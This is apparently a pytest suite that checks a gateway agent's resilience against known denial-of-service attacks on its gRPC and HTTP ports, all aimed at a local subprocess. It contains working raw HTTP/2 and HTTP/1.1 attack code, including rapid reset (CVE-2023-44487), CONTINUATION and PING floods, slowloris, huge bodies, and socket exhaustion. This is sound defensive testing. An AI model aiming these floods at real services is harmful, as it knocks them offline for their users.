"""The abuse catalogue: a real agent (a subprocess, with a control plane and an OpenAI emulator
upstream) under each known attack on its two doors, on both gRPC servers (`--grpc-server
switchgear`, the default, and `grpcio`).

For each case the agent's resident memory (VmRSS, sampled every 20 ms) must stay within
RSS_BOUND (64 MiB) of what it was just before, and a well-behaved client calling both doors
meanwhile (gRPC Invoke and HTTP chat completions, one call each per 50 ms) must see every call
succeed, new connections included (every HTTP call and every third gRPC call opens one). Floods
are sized to blow the bound on a server that buffers what it is sent (192 MiB, or ~90 MiB of
request bodies) and are capped in time (FLOOD_S, ATTACK_S): a protected server ends them sooner.

gRPC port (raw HTTP/2 frames): window overrun, unread streams, unfinished unary streams, 1,000
idle connections (slowloris), PING flood, SETTINGS flood, rapid reset, CONTINUATION flood,
oversized messages. HTTP front door (raw HTTP/1.1): slow bodies, 100 MB bodies, deeply nested
JSON. Both: 20,000 idle sockets (file-descriptor exhaustion).
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import struct
import subprocess
import sys
import textwrap
import time
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import aiohttp
import grpc
import hpack
import orjson
import pytest
from grpc_reflection.v1alpha import reflection_pb2

from switchgear.supervise import Proc
from switchgear.v1 import admin_pb2, admin_pb2_grpc, common_pb2, gateway_pb2, gateway_pb2_grpc

pytestmark = pytest.mark.timeout(180)

MiB = 1 << 20
RSS_BOUND = 64 * MiB
ATTACK_S = 3.0  # most attacks' time cap
FLOOD_S = 6.0  # floods': a server that buffers needs this long to read FLOOD_BYTES
FLOOD_BYTES = 192 * MiB
CALL_EVERY_S = 0.05
FRESH_GRPC_EVERY = 3  # every third gRPC call on a new connection (the doors must keep taking them)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0x0, 0x1, 0x3, 0x4, 0x6, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
INVOKE = "/switchgear.v1.GatewayService/Invoke"
CHAT = {"model": "chat", "messages": [{"role": "user", "content": "hello"}]}


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream_id) + payload


def grpc_message(payload: bytes, declared: int | None = None) -> bytes:
    return b"\x00" + struct.pack(">I", len(payload) if declared is None else declared) + payload


# ---------------------------------------------------------------------------------------------
# the agent and its upstreams


@dataclass
class Agent:
    kind: str
    proc: Proc
    grpc: str
    http: str

    @property
    def host_port(self) -> tuple[str, int]:
        host, _, port = self.grpc.rpartition(":")
        return host, int(port)

    @property
    def http_host_port(self) -> tuple[str, int]:
        host, _, port = self.http.rpartition(":")
        return host, int(port)

    def rss(self) -> int:
        for line in Path(f"/proc/{self.proc.pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) * 1024
        raise AssertionError("no VmRSS")


@dataclass
class Backends:
    workdir: Path
    control_plane: str
    procs: list[Proc] = field(default_factory=list)


@pytest.fixture(scope="module")
def backends(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Backends]:
    workdir = tmp_path_factory.mktemp("abuse")
    procs: list[Proc] = []
    try:
        emulator = Proc.switchgear("emulator", ["emulate", "openai", "--instance", "a:0"], workdir)
        procs.append(emulator)
        port = json.loads("{" + emulator.start(ready_prefix="{"))["a"]
        cp = Proc.switchgear("controlplane", ["controlplane", "--admin-auth", "none", "--no-probes", "--db",
                                              str(workdir / "r.db"), "--listen", "127.0.0.1:0"], workdir)
        procs.append(cp)
        address = cp.start()
        service = common_pb2.Service(
            name="chat", category=common_pb2.SERVICE_CATEGORY_LLM, protocol="openai", model="gpt-4o-mini",
            endpoints=[common_pb2.Endpoint(id="a", url=f"http://127.0.0.1:{port}/v1", weight=1)])
        with grpc.insecure_channel(address) as channel:
            admin_pb2_grpc.AdminServiceStub(channel).RegisterService(
                admin_pb2.RegisterServiceRequest(service=service), timeout=10)
        yield Backends(workdir, address, procs)
    finally:
        for proc in reversed(procs):
            proc.stop()


#: The agent runs with a common Linux default for open files: soft 1,024, hard 4,096.
NOFILE = (1024, 4096)
WITH_FD_LIMITS = ("import os, resource, sys; resource.setrlimit(resource.RLIMIT_NOFILE, "
                  f"{NOFILE}); os.execv(sys.executable, [sys.executable, '-m', 'switchgear', *sys.argv[1:]])")


@pytest.fixture(scope="module", params=["switchgear", "grpcio"])
def agent(request: pytest.FixtureRequest, backends: Backends) -> Iterator[Agent]:
    kind = request.param
    proc = Proc(f"agent-{kind}", [
        sys.executable, "-c", WITH_FD_LIMITS, "agent", "--auth", "none", "--control-plane", backends.control_plane,
        "--listen", "127.0.0.1:0", "--http-listen", "127.0.0.1:0", "--grpc-server", kind, "--node-id", f"abuse-{kind}",
        "--http-body-timeout", "1", "--agent-token-file", str(backends.workdir / "r.db.agent-token"),
    ], backends.workdir)
    try:
        address = proc.start()
        http = proc.wait_line("HTTP ", 20).split()[1]
        running = Agent(kind, proc, address, http)
        asyncio.run(_wait_serving(running))
        yield running
    finally:
        proc.stop()


async def _wait_serving(agent: Agent) -> None:
    deadline = time.monotonic() + 20
    async with grpc.aio.insecure_channel(agent.grpc) as channel:
        stub = gateway_pb2_grpc.GatewayServiceStub(channel)
        while True:
            try:
                await stub.Invoke(_invoke_request(), timeout=2)
                return
            except grpc.aio.AioRpcError:
                assert time.monotonic() < deadline, "the agent never served a call"
                await asyncio.sleep(0.1)


def _invoke_request() -> gateway_pb2.InvokeRequest:
    return gateway_pb2.InvokeRequest(service="chat", method="chat.completions",
                                     payload=orjson.dumps({"messages": CHAT["messages"]}))


# ---------------------------------------------------------------------------------------------
# the well-behaved client, the memory sampler, one case


@dataclass
class Caller:
    """Calls both doors in turn until stopped; remembers every failure."""

    agent: Agent
    ok_grpc: int = 0
    ok_http: int = 0
    failures: list[str] = field(default_factory=list)

    async def run(self, stop: asyncio.Event, started: asyncio.Event) -> None:
        async with (grpc.aio.insecure_channel(self.agent.grpc) as channel,
                    aiohttp.ClientSession(timeout=aiohttp.ClientTimeout(total=15),
                                          connector=aiohttp.TCPConnector(force_close=True)) as session):
            stub = gateway_pb2_grpc.GatewayServiceStub(channel)
            await self._once(stub, session)  # the gRPC connection is open before the attack starts
            started.set()
            while not stop.is_set():
                await self._once(stub, session)
                await asyncio.sleep(CALL_EVERY_S)
            await self._once(stub, session)  # and after it

    async def _once(self, stub: gateway_pb2_grpc.GatewayServiceStub, session: aiohttp.ClientSession) -> None:
        try:
            if (self.ok_grpc + len(self.failures)) % FRESH_GRPC_EVERY == FRESH_GRPC_EVERY - 1:
                async with grpc.aio.insecure_channel(self.agent.grpc) as fresh:
                    reply = await gateway_pb2_grpc.GatewayServiceStub(fresh).Invoke(_invoke_request(), timeout=15)
            else:
                reply = await stub.Invoke(_invoke_request(), timeout=15)
            assert orjson.loads(reply.payload)["choices"]
            self.ok_grpc += 1
        except (grpc.aio.AioRpcError, AssertionError) as exc:
            self.failures.append(f"gRPC: {exc!r}"[:300])
        try:
            async with session.post(f"http://{self.agent.http}/v1/chat/completions", json=CHAT) as response:
                body = await response.read()
                assert response.status == 200, (response.status, body[:200])
            self.ok_http += 1
        except (aiohttp.ClientError, AssertionError, TimeoutError) as exc:
            self.failures.append(f"HTTP: {exc!r}"[:300])


async def sample_rss(agent: Agent, stop: asyncio.Event, peak: list[int]) -> None:
    while not stop.is_set():
        peak[0] = max(peak[0], agent.rss())
        await asyncio.sleep(0.02)
    peak[0] = max(peak[0], agent.rss())


async def run_case(agent: Agent, attack: Callable[[Agent], Awaitable[None]], limit_s: float) -> None:
    baseline = agent.rss()
    peak = [baseline]
    stop, started = asyncio.Event(), asyncio.Event()
    caller = Caller(agent)
    calling = asyncio.ensure_future(caller.run(stop, started))
    sampling = asyncio.ensure_future(sample_rss(agent, stop, peak))
    try:
        await asyncio.wait_for(started.wait(), 20)
        with contextlib.suppress(TimeoutError):  # the attack's time is up: what counts is how the agent held
            await asyncio.wait_for(attack(agent), limit_s)
        await asyncio.sleep(0.2)
    finally:
        stop.set()
        await asyncio.gather(calling, sampling)
    assert agent.proc.running(), f"the agent died:\n{agent.proc.tail()}"
    grown = peak[0] - baseline
    print(f"{agent.kind}: RSS +{grown / MiB:.1f} MiB (from {baseline / MiB:.0f} MiB); "
          f"good calls {caller.ok_grpc} gRPC, {caller.ok_http} HTTP; {len(caller.failures)} failed")
    assert grown <= RSS_BOUND, f"RSS grew {grown / MiB:.0f} MiB (from {baseline / MiB:.0f} MiB)"
    assert not caller.failures, caller.failures[:5]
    assert caller.ok_grpc >= 2 and caller.ok_http >= 2, (caller.ok_grpc, caller.ok_http)


# ---------------------------------------------------------------------------------------------
# attacks on the gRPC port


class H2:
    """One raw HTTP/2 connection that writes and never reads."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader, self.writer = reader, writer
        self.encoder = hpack.Encoder()

    @classmethod
    async def open(cls, agent: Agent) -> H2:
        reader, writer = await asyncio.open_connection(*agent.host_port)
        conn = cls(reader, writer)
        writer.write(PREFACE + frame(SETTINGS, 0, 0))
        return conn

    def headers(self, path: str) -> bytes:
        return bytes(self.encoder.encode([
            (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "agent"),
            ("content-type", "application/grpc"), ("te", "trailers")]))

    async def send(self, data: bytes) -> bool:
        """False once the agent has closed the connection."""
        try:
            self.writer.write(data)
            await self.writer.drain()
            return True
        except (ConnectionError, OSError):
            return False

    async def flood(self, chunk: bytes, total: int = FLOOD_BYTES) -> None:
        sent = 0
        while sent < total and await self.send(chunk):
            sent += len(chunk)

    def close(self) -> None:
        self.writer.transport.abort()


def _repeat(one: bytes, size: int = MiB) -> bytes:
    return one * max(1, size // len(one))


async def window_overrun(agent: Agent) -> None:
    """One reflection stream (answered before any key check) sent ~96 MiB past its window; we
    read nothing, so its handler stops at its first unread answer."""
    conn = await H2.open(agent)
    request = reflection_pb2.ServerReflectionRequest(
        host="x" * (MiB // 2), file_containing_symbol="switchgear.v1.GatewayService").SerializeToString()
    payload = grpc_message(request)
    data = b"".join(frame(DATA, 0, 1, payload[i:i + 16384]) for i in range(0, len(payload), 16384))
    try:
        await conn.send(frame(HEADERS, END_HEADERS, 1, conn.headers(REFLECTION)))
        await conn.flood(data)
    finally:
        conn.close()


async def unread_streams(agent: Agent) -> None:
    """72 reflection streams, each sent its whole 1 MiB window of requests the handler cannot
    get to (it waits for us to read its answers): ~72 MiB unread on one connection."""
    conn = await H2.open(agent)
    request = grpc_message(reflection_pb2.ServerReflectionRequest(
        host="x" * 16000, file_containing_symbol="switchgear.v1.GatewayService").SerializeToString())
    try:
        for i in range(72):
            sid = 2 * i + 1
            body = frame(HEADERS, END_HEADERS, sid, conn.headers(REFLECTION))
            body += b"".join(frame(DATA, 0, sid, request) for _ in range(MiB // len(request)))
            if not await conn.send(body):
                return
        await asyncio.sleep(ATTACK_S)
    finally:
        conn.close()


async def unfinished_unary(agent: Agent) -> None:
    """90 Invoke streams each sent 1 MiB of a 4 MiB message and never ended: ~90 MiB."""
    conn = await H2.open(agent)
    piece = b"x" * 16384
    try:
        for i in range(90):
            sid = 2 * i + 1
            body = frame(HEADERS, END_HEADERS, sid, conn.headers(INVOKE))
            body += frame(DATA, 0, sid, grpc_message(b"", declared=4 * MiB - 16) + piece[5:])
            body += frame(DATA, 0, sid, piece) * (MiB // len(piece) - 1)
            if not await conn.send(body):
                return
        await asyncio.sleep(ATTACK_S)
    finally:
        conn.close()


async def idle_connections(agent: Agent) -> None:
    """1,000 connections that never finish their preface (half send part of it)."""
    held = []
    try:
        for i in range(1000):
            _, writer = await asyncio.open_connection(*agent.host_port)
            if i % 2:
                writer.write(PREFACE[:10])
            held.append(writer)
        await asyncio.sleep(ATTACK_S)
    except (ConnectionError, OSError):
        await asyncio.sleep(ATTACK_S)  # refused beyond a cap: fine
    finally:
        for writer in held:
            writer.transport.abort()


async def _flood(agent: Agent, chunk: bytes) -> None:
    conn = await H2.open(agent)
    try:
        await conn.flood(chunk)
    finally:
        conn.close()


async def ping_flood(agent: Agent) -> None:
    """PINGs, each answered with a PING ACK that we never read."""
    await _flood(agent, _repeat(frame(PING, 0, 0, b"12345678")))


async def settings_flood(agent: Agent) -> None:
    """Empty SETTINGS frames, each answered with an ACK that we never read."""
    await _flood(agent, _repeat(frame(SETTINGS, 0, 0)))


async def rapid_reset(agent: Agent) -> None:
    """HEADERS for Invoke then RST_STREAM at once, stream after stream (CVE-2023-44487)."""
    conn = await H2.open(agent)
    reset = struct.pack(">I", 8)
    try:
        sid = 1
        while sid < 2 * 20_000:
            batch = b"".join(frame(HEADERS, END_HEADERS, s, conn.headers(INVOKE)) + frame(RST_STREAM, 0, s, reset)
                             for s in range(sid, sid + 2000, 2))
            sid += 2000
            if not await conn.send(batch):
                return
    finally:
        conn.close()


async def continuation_flood(agent: Agent) -> None:
    """HEADERS without END_HEADERS, then endless empty CONTINUATION frames (each adds nothing to
    the header block's size, so a cap on its bytes never trips)."""
    conn = await H2.open(agent)
    try:
        if await conn.send(frame(HEADERS, 0, 1, conn.headers(INVOKE))):
            await conn.flood(_repeat(frame(CONTINUATION, 0, 1)))
    finally:
        conn.close()


async def oversized_messages(agent: Agent) -> None:
    """Invoke streams declaring a 1 GiB message and sending 8 MiB of it, on 12 streams."""
    conn = await H2.open(agent)
    piece = b"x" * 16384
    try:
        for i in range(12):
            sid = 2 * i + 1
            body = frame(HEADERS, END_HEADERS, sid, conn.headers(INVOKE))
            body += frame(DATA, 0, sid, grpc_message(b"", declared=1 << 30) + piece[5:])
            body += frame(DATA, 0, sid, piece) * (8 * MiB // len(piece))
            if not await conn.send(body):
                return
    finally:
        conn.close()


# ---------------------------------------------------------------------------------------------
# attacks on the HTTP front door


async def _http(agent: Agent, head: bytes) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    reader, writer = await asyncio.open_connection(*agent.http_host_port)
    writer.write(head)
    return reader, writer


def _post(length: int | None) -> bytes:
    framing = f"Content-Length: {length}" if length is not None else "Transfer-Encoding: chunked"
    return (f"POST /v1/chat/completions HTTP/1.1\r\nHost: agent\r\nContent-Type: application/json\r\n"
            f"{framing}\r\n\r\n").encode()


async def slow_bodies(agent: Agent) -> None:
    """300 requests that declare a 1 MB body and send a byte of it every 100 ms."""
    conns = [await _http(agent, _post(1_000_000)) for _ in range(300)]
    try:
        for _ in range(int(ATTACK_S / 0.1)):
            for _, writer in conns:
                if not writer.is_closing():
                    writer.write(b"[")
            await asyncio.sleep(0.1)
    except (ConnectionError, OSError):
        pass
    finally:
        for _, writer in conns:
            writer.transport.abort()


async def big_bodies(agent: Agent) -> None:
    """Four 100 MB bodies at once: three with Content-Length, one chunked."""
    chunk = b"x" * MiB

    async def one(length: int | None) -> None:
        _, writer = await _http(agent, _post(length))
        piece = chunk if length is not None else b"%x\r\n%s\r\n" % (len(chunk), chunk)
        try:
            for _ in range(100):
                writer.write(piece)
                await writer.drain()
        except (ConnectionError, OSError):
            pass
        finally:
            writer.transport.abort()

    await asyncio.gather(one(100 * MiB), one(100 * MiB), one(100 * MiB), one(None))


async def deep_json(agent: Agent) -> None:
    """Chat requests nested 300, 1,000 and 100,000 deep: each must get a 4xx, not a 500."""
    statuses = []
    async with aiohttp.ClientSession() as session:
        for depth in (300, 1000, 100_000) * 5:
            body = b'{"model": "chat", "messages": [{"role": "user", "content": "x", "extra": ' \
                + b"[" * depth + b"]" * depth + b"}]}"
            async with session.post(f"http://{agent.http}/v1/chat/completions", data=body,
                                    headers={"Content-Type": "application/json"}) as response:
                statuses.append(response.status)
    assert all(400 <= s < 500 for s in statuses), statuses


# ---------------------------------------------------------------------------------------------
# both doors: file descriptors

HOLDER = textwrap.dedent("""
    import select, socket, sys, time
    host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    held = []
    while len(held) < count:  # in batches the listen backlog takes, each given up to 1 s to connect
        batch = [socket.socket() for _ in range(min(500, count - len(held)))]
        poller = select.poll()
        for s in batch:
            s.setblocking(False)
            s.connect_ex((host, port))
            poller.register(s, select.POLLOUT)
        waiting, deadline = len(batch), time.monotonic() + 1.0
        while waiting and time.monotonic() < deadline:
            for fd, _ in poller.poll(50):
                poller.unregister(fd)
                waiting -= 1
        held.extend(batch)
    print("OPEN", len(held), flush=True)
    sys.stdin.read()
""")



async def idle_sockets(agent: Agent) -> None:
    """20,000 idle sockets on the HTTP front door, held by two helper processes: far more than
    the agent's open-file limit (NOFILE), so a door that takes them all leaves nothing to accept
    with on either door, or to reach the upstream with."""
    host, port = agent.http_host_port
    holders = [subprocess.Popen([sys.executable, "-c", HOLDER, host, str(port), "10000"], stdin=subprocess.PIPE,
                                stdout=subprocess.PIPE, text=True) for _ in range(2)]
    try:
        for holder in holders:
            assert holder.stdout is not None
            line = await asyncio.get_running_loop().run_in_executor(None, holder.stdout.readline)
            assert line.startswith("OPEN"), line
        await asyncio.sleep(ATTACK_S)
    finally:
        for holder in holders:
            holder.kill()
            holder.wait()


CASES: dict[str, tuple[Callable[[Agent], Awaitable[None]], float]] = {
    "window overrun": (window_overrun, FLOOD_S),
    "unread streams": (unread_streams, FLOOD_S),
    "unfinished unary streams": (unfinished_unary, ATTACK_S),
    "1,000 idle connections": (idle_connections, ATTACK_S),
    "PING flood": (ping_flood, FLOOD_S),
    "SETTINGS flood": (settings_flood, FLOOD_S),
    "rapid reset": (rapid_reset, ATTACK_S),
    "CONTINUATION flood": (continuation_flood, FLOOD_S),
    "oversized messages": (oversized_messages, ATTACK_S),
    "HTTP slow bodies": (slow_bodies, ATTACK_S),
    "HTTP 100 MB bodies": (big_bodies, ATTACK_S),
    "HTTP deeply nested JSON": (deep_json, ATTACK_S),
    "20,000 idle sockets": (idle_sockets, ATTACK_S),
}


#: Cases a server is known to fail, and why.
KNOWN: dict[tuple[str, str], str] = {
    ("grpcio", "rapid reset"): "grpc.aio: under 20,000 reset streams a concurrent well-behaved call is often "
                               "CANCELLED by the server (grpcio's own behaviour, not switchgear code)",
}


@pytest.mark.parametrize("case", list(CASES))
async def test_abuse(agent: Agent, case: str, request: pytest.FixtureRequest) -> None:
    if (agent.kind, case) in KNOWN:
        request.applymarker(pytest.mark.xfail(strict=False, reason=KNOWN[agent.kind, case]))
    attack, limit_s = CASES[case]
    await run_case(agent, attack, limit_s)
